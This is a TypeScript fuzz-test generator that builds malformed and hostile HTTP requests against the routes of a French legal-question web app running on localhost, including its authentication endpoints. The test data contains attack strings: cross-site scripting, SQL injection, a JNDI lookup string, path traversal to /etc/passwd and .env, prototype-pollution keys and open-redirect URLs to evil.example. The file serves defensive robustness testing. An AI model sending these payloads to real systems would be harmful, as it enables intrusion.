import fc from 'fast-check';
import { z } from 'zod';
import { answerRequestSchema, feedbackRequestSchema, prefilePdfRequestSchema } from '../../../src/common/api/answers';
import { questionCheckRequestSchema, searchQuerySchema } from '../../../src/common/api/search';
import { anyJson, arbitraryFromJsonSchema, bodyFromSchema, jsonSchemaOf, type FieldArbitraries } from './fuzz-schema';

/**
 * Generated requests for every route of the site (see `ROUTES`): method, path, query string, headers and
 * body, valid-ish or broken. Who is calling (`auth`, `user`) is resolved when the case runs, so a rotated
 * API key or a signed-out session is always the current one.
 */

export type AuthMode = 'none' | 'cookie' | 'bearer' | 'cookie+bearer' | 'bad-bearer' | 'junk-cookie';

export interface FuzzRequest {
  /** Route label, for the statistics. */
  route: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** Whether the body carries `__proto__` / `constructor.prototype` keys. */
  pollution: boolean;
  auth: AuthMode;
  /** Index in the pool of signed-in users. */
  user: number;
  /** Remote address: a few fixed ones (so the rate limits are reached) and some random ones. */
  ip: string;
}

export const SITE_ORIGIN = 'http://localhost:3000';

// ---------------------------------------------------------------- texts

/** Questions the corpus answers: a full (debited, composed) answer. Kept rare: they are the expensive cases. */
export const IN_SCOPE_QUESTIONS = [
  "Mon propriétaire ne me rend pas mon dépôt de garantie depuis trois mois après l'état des lieux de sortie, que puis-je faire ?",
  'Mon employeur ne me paie pas mes heures supplémentaires depuis six mois, quels sont mes recours ?',
  'Comment divorcer par consentement mutuel quand on a deux enfants mineurs ?',
];

/** French but outside the corpus: retrieval runs, then a free 422. */
export const OUT_OF_SCOPE_QUESTIONS = [
  'Quelle est la meilleure recette de la tarte aux pommes pour le dessert de dimanche ?',
  'Pourquoi le ciel est-il bleu le jour et noir la nuit selon les physiciens ?',
];

const WORDS = [
  'je', 'mon', 'ma', 'le', 'la', 'les', 'un', 'une', 'de', 'du', 'est', 'que', 'pour', 'avec', 'propriétaire',
  'loyer', 'employeur', 'contrat', 'licenciement', 'divorce', 'héritage', 'voisin', 'bruit', 'amende', 'tribunal',
  'été', 'à', 'où', 'ça', 'ne', 'pas', 'qui', 'quoi', 'the', 'is', 'and', 'landlord', '¿', 'ß', '日本', '🙂', 'null',
];

/** One word of 1,000 characters; 500 of them make a 500 KB question (over the 256 KB body limit). */
export const THOUSAND_CHAR_WORD = `procédure${'x'.repeat(991)}`;
export const HUGE_QUESTION = Array.from({ length: 500 }, () => THOUSAND_CHAR_WORD).join(' ');

const wordSalad = fc.array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 40 }).map((w) => w.join(' '));

const awkwardText = fc.oneof(
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom(
    '',
    '   ',
    '\u0000\u0001\u0002',
    '\uD800 lone surrogate',
    '\u202Edroite à gauche',
    '<script>alert(1)</script>',
    "'; drop table users; --",
    '${jndi:ldap://exemple.invalid/a}',
    '../../../../etc/passwd',
    '%00%ff%fe',
    `${'loyer '.repeat(501)}`,
    `${'é'.repeat(5000)}`,
  ),
);

export const questionArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...IN_SCOPE_QUESTIONS) },
  { weight: 3, arbitrary: fc.constantFrom(...OUT_OF_SCOPE_QUESTIONS) },
  { weight: 6, arbitrary: wordSalad },
  { weight: 8, arbitrary: awkwardText },
  { weight: 1, arbitrary: fc.constant(`${THOUSAND_CHAR_WORD} `.repeat(40)) },
);

const emailArb = fc.oneof(
  fc.emailAddress(),
  fc.constantFrom('fuzz-0@exemple.fr', 'FUZZ-1@EXEMPLE.FR', ' fuzz-2@exemple.fr ', 'pas-un-email', '@', 'a@b', `${'a'.repeat(300)}@exemple.fr`),
  awkwardText,
);

const passwordArb = fc.oneof(
  fc.constantFrom('Motdepasse1', 'faible', '', 'x'.repeat(129), 'Aa1'.repeat(40), 'MOTDEPASSE1', 'motdepasse1'),
  fc.string({ maxLength: 140 }),
);

const urlArb = fc.oneof(
  fc.constantFrom('/', '/login', '/restricted', 'https://evil.example/', '//evil.example', '/\\evil.example', 'javascript:alert(1)', `${SITE_ORIGIN}/ok`, 'http://localhost:3000.evil.example/', 'http://localhost:3000@evil.example/'),
  fc.webUrl(),
  awkwardText,
);

const tokenArb = fc.oneof(fc.string({ maxLength: 40 }), fc.stringMatching(/^[A-Za-z0-9_-]{24}$/), awkwardText);

// ---------------------------------------------------------------- bodies

const authBody = (shape: z.ZodType, fields: FieldArbitraries) => bodyFromSchema(shape, fields);

const AUTH_FIELDS: FieldArbitraries = {
  email: emailArb,
  password: passwordArb,
  newPassword: passwordArb,
  currentPassword: passwordArb,
  name: awkwardText,
  token: tokenArb,
  callbackURL: urlArb,
  redirectTo: urlArb,
  errorCallbackURL: urlArb,
  newUserCallbackURL: urlArb,
  provider: fc.constantFrom('google', 'microsoft', 'github', '', '__proto__'),
};

/** better-auth's request bodies, as documented (it does not export its schemas). */
const AUTH_SCHEMAS = {
  signUp: z.object({ name: z.string(), email: z.email(), password: z.string(), callbackURL: z.string().optional() }),
  signIn: z.object({ email: z.email(), password: z.string(), rememberMe: z.boolean().optional(), callbackURL: z.string().optional() }),
  forget: z.object({ email: z.email(), redirectTo: z.string().optional() }),
  reset: z.object({ newPassword: z.string(), token: z.string().optional() }),
  social: z.object({ provider: z.string(), callbackURL: z.string().optional(), errorCallbackURL: z.string().optional(), newUserCallbackURL: z.string().optional() }),
  changePassword: z.object({ newPassword: z.string(), currentPassword: z.string(), revokeOtherSessions: z.boolean().optional() }),
  updateUser: z.object({ name: z.string().optional(), image: z.string().optional() }),
  verify: z.object({ email: z.email(), callbackURL: z.string().optional() }),
};

const QUESTION_FIELDS: FieldArbitraries = { question: questionArb, city: fc.oneof(fc.constantFrom('Lyon', 'Saint-Étienne'), awkwardText) };

/** A structurally valid answer, small enough that rendering the PDF stays quick. */
const prefileFields: FieldArbitraries = {
  question: fc.oneof(fc.constantFrom(...IN_SCOPE_QUESTIONS), awkwardText),
  answeredAt: fc.oneof(fc.date({ noInvalidDate: true }).map((d) => d.toISOString()), awkwardText),
  text: fc.oneof(awkwardText, wordSalad),
  title: fc.oneof(awkwardText, wordSalad),
};

// ---------------------------------------------------------------- query strings

/** encodeURIComponent, with lone surrogates (which it refuses) replaced by U+FFFD first. */
export function encodeText(text: string): string {
  return encodeURIComponent(text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));
}

/** Raw query-string fragments, some with invalid percent-encoding or invalid UTF-8 once decoded. */
const rawQueryPiece = fc.oneof(
  fc.constantFrom('%', '%Z', '%E0%A4%A', '%C3%28', '%FF%FE', '%ED%A0%80', '%00', '%C0%AF', '+', '&&', '=', '==', 'a[b]=c', 'a[__proto__][x]=1', '__proto__[polluted]=oui', 'constructor[prototype][polluted]=oui'),
  fc.string({ maxLength: 20 }).map(encodeText),
  fc.string({ unit: 'binary', maxLength: 10 }).map(encodeText),
);

export const queryStringArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constant('') },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.tuple(fc.constantFrom('q', 'limit', 'token', 'callbackURL', 'x', 'error'), rawQueryPiece), { maxLength: 4 })
      .map((pairs) => (pairs.length ? `?${pairs.map(([k, v]) => `${k}=${v}`).join('&')}` : '')),
  },
  { weight: 1, arbitrary: fc.array(rawQueryPiece, { maxLength: 3 }).map((p) => `?${p.join('&')}`) },
);

const searchQueryArb: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .record(
        {
          q: fc.oneof(questionArb, fc.constantFrom('loyer impayé', 'licenciement', 'dépôt de garantie')),
          limit: fc.oneof(
            arbitraryFromJsonSchema(jsonSchemaOf(searchQuerySchema).properties?.limit ?? {}),
            fc.constantFrom('0', '-1', '21', '1e3', '5.5', 'abc', '', '9'.repeat(400), 'NaN', 'Infinity', '0x10'),
          ),
        },
        { requiredKeys: [] },
      )
      .map((r) => `?${Object.entries(r).map(([k, v]) => `${k}=${encodeText(String(v))}`).join('&')}`),
  },
  { weight: 1, arbitrary: fc.constantFrom('?q=a&q=b', '?q[]=loyer', '?q[a]=1', '?limit=3', '?q=%C3%28', '?q=%FF', '?q=%', `?q=${encodeText(HUGE_QUESTION.slice(0, 60_000))}`) },
  { weight: 1, arbitrary: queryStringArb },
);

// ---------------------------------------------------------------- headers

const contentTypeArb = fc.oneof(
  { weight: 12, arbitrary: fc.constant('application/json') },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'application/json; charset=latin1',
      'APPLICATION/JSON',
      'text/plain',
      'text/plain; charset=utf-8',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=----x',
      'application/xml',
      'application/octet-stream',
      'application/pdf',
      'application/json-patch+json',
      '',
      ';;;',
      'application/json; boundary=',
      'x/y; charset="\u0000"',
    ),
  },
);

const acceptArb = fc.constantFrom(
  'application/json',
  'text/event-stream',
  'text/html',
  '*/*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'image/png',
  '',
  'text/event-stream, application/json',
);

const originArb = fc.oneof(
  { weight: 8, arbitrary: fc.constant(SITE_ORIGIN) },
  { weight: 1, arbitrary: fc.constantFrom('', 'null', 'https://evil.example', 'http://localhost:3000.evil.example', 'HTTP://LOCALHOST:3000', 'http://localhost:3000/') },
);

/** Extra headers: oversized values, odd names, forwarding headers clients should not control. */
const extraHeadersArb: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { weight: 6, arbitrary: fc.constant({}) },
  {
    weight: 2,
    arbitrary: fc.dictionary(
      fc.constantFrom('x-forwarded-for', 'x-forwarded-proto', 'x-forwarded-host', 'x-ql-client-ip', 'user-agent', 'referer', 'accept-language', 'accept-encoding', 'x-request-id', 'range', 'if-none-match', 'x-http-method-override'),
      fc.oneof(fc.string({ maxLength: 40 }).map((s) => s.replace(/[^\x20-\x7e]/g, '')), fc.constantFrom('gzip, br', 'bytes=0-10', 'https', '1.2.3.4, 5.6.7.8', 'DELETE', 'fr-FR,fr;q=0.9')),
      { maxKeys: 3 },
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 8, max: 200 }).map((kb) => ({ 'x-enorme': 'a'.repeat(kb * 1024) })) },
  { weight: 1, arbitrary: fc.integer({ min: 50, max: 400 }).map((n) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`x-h${i}`, `v${i}`]))) },
);

const authArb: fc.Arbitrary<AuthMode> = fc.oneof(
  { weight: 5, arbitrary: fc.constant<AuthMode>('none') },
  { weight: 3, arbitrary: fc.constant<AuthMode>('cookie') },
  { weight: 2, arbitrary: fc.constant<AuthMode>('bearer') },
  { weight: 1, arbitrary: fc.constantFrom<AuthMode>('cookie+bearer', 'bad-bearer', 'junk-cookie') },
);

// ---------------------------------------------------------------- bodies → bytes

export interface EncodedBody {
  payload?: string | Buffer;
  pollution: boolean;
}

/** JSON text of a value, possibly with polluting keys, cut short, or with invalid UTF-8 bytes inside. */
export function encodeBody(value: unknown, variant: number): EncodedBody {
  if (value === undefined) return { pollution: false };
  const text = JSON.stringify(value) ?? 'null';
  switch (variant % 10) {
    case 0:
      if (text.startsWith('{')) {
        const polluted = `{"__proto__":{"polluted":"oui"},"constructor":{"prototype":{"polluted":"oui"}},${text.length > 2 ? text.slice(1) : '"x":1}'}`;
        return { payload: polluted, pollution: true };
      }
      return { payload: text, pollution: false };
    case 1:
      return { payload: text.slice(0, Math.max(1, Math.floor(text.length / 2))), pollution: false };
    case 2: {
      const cut = text.indexOf('"', 2);
      const at = cut > 0 ? cut : text.length;
      return { payload: Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from(text.slice(at))]), pollution: false };
    }
    default:
      return { payload: text, pollution: false };
  }
}

/** JSON nested thousands of levels deep: arrays, objects, or inside an expected field. */
const deepJsonArb = fc.tuple(fc.integer({ min: 1000, max: 20_000 }), fc.nat({ max: 2 })).map(([n, kind]) => {
  if (kind === 0) return `${'['.repeat(n)}${']'.repeat(n)}`;
  const nested = `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
  return kind === 1 ? nested : `{"question":${nested},"email":${nested},"helpful":${nested}}`;
});

const bodyBytesArb = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)),
  deepJsonArb,
  fc.constantFrom('', ' ', 'null', '[]', '""', '0', '{', '}', '{"a":', 'email=x%40y.fr&password=Motdepasse1', '\uFEFF{}'),
);

// ---------------------------------------------------------------- routes

/**
 * Paths whose percent-encoding is broken: Fastify's router rejects them before any route; the app's
 * `frameworkErrors` handler answers them with a French JSON 400 (fuzz-edge.test.ts). Generated paths
 * keep whatever encoding they were drawn with, broken or not.
 */
export const BROKEN_ENCODING_PATHS = ['/api/%', '/api/%E0%A4%A', '/api/%C3%28', '/api/%FF', '/%', '/Articles/%ZZ'];

interface RouteSpec {
  route: string;
  weight: number;
  methods: fc.Arbitrary<string>;
  path: fc.Arbitrary<string>;
  query: fc.Arbitrary<string>;
  body?: fc.Arbitrary<unknown>;
  accept?: fc.Arbitrary<string>;
}

const post = fc.oneof({ weight: 9, arbitrary: fc.constant('POST') }, { weight: 1, arbitrary: fc.constantFrom('GET', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS') });
const get = fc.oneof({ weight: 9, arbitrary: fc.constant('GET') }, { weight: 1, arbitrary: fc.constantFrom('HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS') });

const OTHER_AUTH_PATHS = [
  '/get-session', '/list-sessions', '/revoke-session', '/revoke-other-sessions', '/update-user', '/change-password',
  '/delete-user', '/change-email', '/verify-email', '/send-verification-email', '/forget-password', '/error', '/ok',
  '/callback/google', '/oauth2/callback/google', '/reset-password/abc', '/sign-in/oauth2', '/link-social', '/',
  '/sign-in', '/sign-up', '/../profile', '/%2e%2e/profile', '/sign-in/email/', '/SIGN-IN/EMAIL',
];

/** The routes of the site and how often each is drawn (expensive ones rarely). */
export const ROUTES: RouteSpec[] = [
  { route: 'GET /api/health', weight: 3, methods: get, path: fc.constant('/api/health'), query: queryStringArb },
  { route: 'GET /api/search', weight: 10, methods: get, path: fc.constant('/api/search'), query: searchQueryArb },
  {
    route: 'POST /api/search/question-check',
    weight: 4,
    methods: post,
    path: fc.constant('/api/search/question-check'),
    query: searchQueryArb,
    body: bodyFromSchema(questionCheckRequestSchema, QUESTION_FIELDS),
  },
  { route: 'GET /api/profile', weight: 6, methods: get, path: fc.constant('/api/profile'), query: queryStringArb },
  { route: 'GET /api/profile/ledger', weight: 2, methods: get, path: fc.constant('/api/profile/ledger'), query: queryStringArb },
  { route: 'POST /api/profile/api-key', weight: 3, methods: post, path: fc.constant('/api/profile/api-key'), query: queryStringArb, body: fc.oneof(fc.constant(undefined), anyJson) },
  {
    route: 'POST /api/answers',
    weight: 8,
    methods: post,
    path: fc.constant('/api/answers'),
    query: queryStringArb,
    body: bodyFromSchema(answerRequestSchema, QUESTION_FIELDS),
    accept: fc.oneof({ weight: 2, arbitrary: fc.constant('application/json') }, { weight: 1, arbitrary: fc.constant('text/event-stream') }, { weight: 1, arbitrary: acceptArb }),
  },
  { route: 'POST /api/feedback', weight: 7, methods: post, path: fc.constant('/api/feedback'), query: queryStringArb, body: bodyFromSchema(feedbackRequestSchema) },
  { route: 'POST /api/answers/pdf', weight: 3, methods: post, path: fc.constant('/api/answers/pdf'), query: queryStringArb, body: bodyFromSchema(prefilePdfRequestSchema, prefileFields) },
  { route: 'POST /api/auth/sign-up/email', weight: 3, methods: post, path: fc.constant('/api/auth/sign-up/email'), query: queryStringArb, body: authBody(AUTH_SCHEMAS.signUp, AUTH_FIELDS) },
  { route: 'POST /api/auth/sign-in/email', weight: 3, methods: post, path: fc.constant('/api/auth/sign-in/email'), query: queryStringArb, body: authBody(AUTH_SCHEMAS.signIn, AUTH_FIELDS) },
  { route: 'POST /api/auth/sign-in/social', weight: 2, methods: post, path: fc.constant('/api/auth/sign-in/social'), query: queryStringArb, body: authBody(AUTH_SCHEMAS.social, AUTH_FIELDS) },
  { route: 'POST /api/auth/request-password-reset', weight: 4, methods: post, path: fc.constant('/api/auth/request-password-reset'), query: queryStringArb, body: authBody(AUTH_SCHEMAS.forget, AUTH_FIELDS) },
  { route: 'POST /api/auth/reset-password', weight: 4, methods: post, path: fc.constant('/api/auth/reset-password'), query: queryStringArb, body: authBody(AUTH_SCHEMAS.reset, AUTH_FIELDS) },
  { route: 'POST /api/auth/sign-out', weight: 2, methods: post, path: fc.constant('/api/auth/sign-out'), query: queryStringArb, body: fc.oneof(fc.constant(undefined), fc.constant({}), anyJson) },
  {
    route: 'other /api/auth/*',
    weight: 4,
    methods: fc.constantFrom('GET', 'POST'),
    path: fc.constantFrom(...OTHER_AUTH_PATHS).map((p) => `/api/auth${p}`),
    query: queryStringArb,
    body: fc.oneof(authBody(AUTH_SCHEMAS.changePassword, AUTH_FIELDS), authBody(AUTH_SCHEMAS.updateUser, AUTH_FIELDS), authBody(AUTH_SCHEMAS.verify, AUTH_FIELDS), anyJson),
  },
  {
    route: 'unknown /api/*',
    weight: 6,
    methods: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS'),
    path: fc.oneof(
      fc.constantFrom('/api', '/api/', '/api//health', '/api/health/', '/api/HEALTH', '/api/answers/', '/api/answers/pdf/x', '/api/%2e%2e/etc/passwd', '/api/profile/../health', '/api/%E0%A4%A', '/api/%', '/api/%C3%28', '/api/\u00e9t\u00e9'),
      fc.webSegment().map((s) => `/api/${s}`),
      fc.array(fc.webSegment(), { maxLength: 4 }).map((s) => `/api/${s.join('/')}`),
    ),
    query: queryStringArb,
    body: fc.oneof(fc.constant(undefined), anyJson),
  },
  { route: 'GET /Articles/', weight: 2, methods: get, path: fc.constantFrom('/Articles/', '/Articles/index.htm', '/Articles', '/articles/'), query: queryStringArb },
  {
    route: 'pages',
    weight: 6,
    methods: get,
    path: fc.oneof(
      fc.constantFrom('/', '/index.html', '/mentions.html', '/assets/index-Ab12Cd34.js', '/login', '/register', '/restricted', '/update-password', '/assets/', '/assets/../index.html', '/%2e%2e/%2e%2e/etc/passwd', '/assets/%00.js', '/.env', '/mentions.html/'),
      fc.webPath().map((p) => (p.startsWith('/') ? p : `/${p}`)),
    ),
    query: queryStringArb,
    accept: fc.constantFrom('text/html', '*/*', 'application/json', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', ''),
  },
];

const IP_POOL = Array.from({ length: 40 }, (_, i) => `10.0.${Math.floor(i / 250)}.${(i % 250) + 1}`);
const ipArb = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...IP_POOL) }, { weight: 1, arbitrary: fc.ipV4() }, { weight: 1, arbitrary: fc.ipV6() });

function routeRequest(spec: RouteSpec, users: number): fc.Arbitrary<FuzzRequest> {
  const bodyArb: fc.Arbitrary<{ value: unknown; raw?: Buffer | string }> = spec.body
    ? fc.oneof({ weight: 9, arbitrary: spec.body.map((value) => ({ value })) }, { weight: 1, arbitrary: bodyBytesArb.map((raw) => ({ value: undefined, raw })) })
    : fc.oneof({ weight: 9, arbitrary: fc.constant({ value: undefined }) }, { weight: 1, arbitrary: anyJson.map((value) => ({ value })) });
  return fc
    .record({
      method: spec.methods,
      path: spec.path,
      query: spec.query,
      body: bodyArb,
      variant: fc.nat({ max: 9 }),
      contentType: contentTypeArb,
      accept: spec.accept ?? acceptArb,
      origin: originArb,
      extra: extraHeadersArb,
      auth: authArb,
      user: fc.nat({ max: users - 1 }),
      ip: ipArb,
    })
    .map((r) => {
      const encoded: EncodedBody = r.body.raw !== undefined ? { payload: r.body.raw, pollution: false } : encodeBody(r.body.value, r.variant);
      const headers: Record<string, string> = { ...r.extra };
      if (r.accept) headers.accept = r.accept;
      if (r.origin) headers.origin = r.origin;
      const hasBody = encoded.payload !== undefined && r.method !== 'GET' && r.method !== 'HEAD';
      if (hasBody && r.contentType) headers['content-type'] = r.contentType;
      return {
        route: spec.route,
        method: r.method,
        url: `${r.path}${r.query}`,
        headers,
        ...(hasBody ? { payload: encoded.payload } : {}),
        pollution: hasBody && encoded.pollution,
        auth: r.auth,
        user: r.user,
        ip: r.ip,
      };
    });
}

/** Any request to any route, drawn by the routes' weights. */
export function fuzzRequestArb(users: number): fc.Arbitrary<FuzzRequest> {
  return fc.oneof(...ROUTES.map((spec) => ({ weight: spec.weight, arbitrary: routeRequest(spec, users) })));
}
